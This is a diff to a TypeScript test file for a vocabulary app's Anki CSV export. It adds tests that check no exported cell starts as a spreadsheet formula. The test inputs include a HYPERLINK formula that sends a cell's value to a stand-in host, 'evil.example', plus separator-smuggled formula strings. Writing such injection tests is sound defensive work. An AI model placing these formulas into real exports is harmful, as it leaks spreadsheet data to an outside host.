@@ -48,6 +48,43 @@ test('the file says to Anki how it is to be read, and quotes stand as in every C
   ]);
 });
 
+/** The cells of one row, as a reader of CSV with this separator finds them. */
+function cellsOf(row: string, separator: string): string[] {
+  const cells = [''];
+  let isQuoted = false;
+  // Two quotes are one within quotes, and an empty cell elsewhere.
+  for (const sign of row.match(/""|./gs) ?? []) {
+    if (sign === '""') cells.push(`${cells.pop()}${isQuoted ? '"' : ''}`);
+    else if (sign === '"' && (isQuoted || cells.at(-1) === '')) isQuoted = !isQuoted;
+    else if (!isQuoted && sign === separator) cells.push('');
+    else cells.push(`${cells.pop()}${sign}`);
+  }
+  return cells;
+}
+
+test.each([
+  '=HYPERLINK("http://evil.example?"&A1)',
+  '+1',
+  '-2+3',
+  '@SUM(A1)',
+  '\t=1',
+  '\r=1',
+  ' =1',
+  '＝1',
+  'sol;=1+1',
+  'sol; -1',
+  'sol;\t@A1',
+])('no cell begins as a formula in a spreadsheet, whatever separates cells there: %j', (text) => {
+  const [card] = wordCardsOf(STORY);
+  const all = { ...card!, word: text, gloss: text, sentence: text, translation: text, title: text };
+  const row = wordsCsv([all], ['a', 'b', 'c', 'd', 'e']).split('\n').slice(3).join('\n').trimEnd();
+  for (const separator of [',', ';', '\t']) {
+    for (const cell of cellsOf(row, separator)) expect(cell.trim()).not.toMatch(/^[=+\-@＝＋－＠]/);
+  }
+  // Anki shows the text as it is: what was added has no width.
+  expect(cellsOf(row, ',').map((cell) => cell.replaceAll('\u2060', ''))).toEqual(Array(5).fill(text));
+});
+
 test.each([
   ['El sol y la sola luna.', 'sola', ['El sol y la ', 'sola', ' luna.']],
   ['Solo dijo adiós: sol.', 'sol', ['Solo dijo adiós: ', 'sol', '.']],
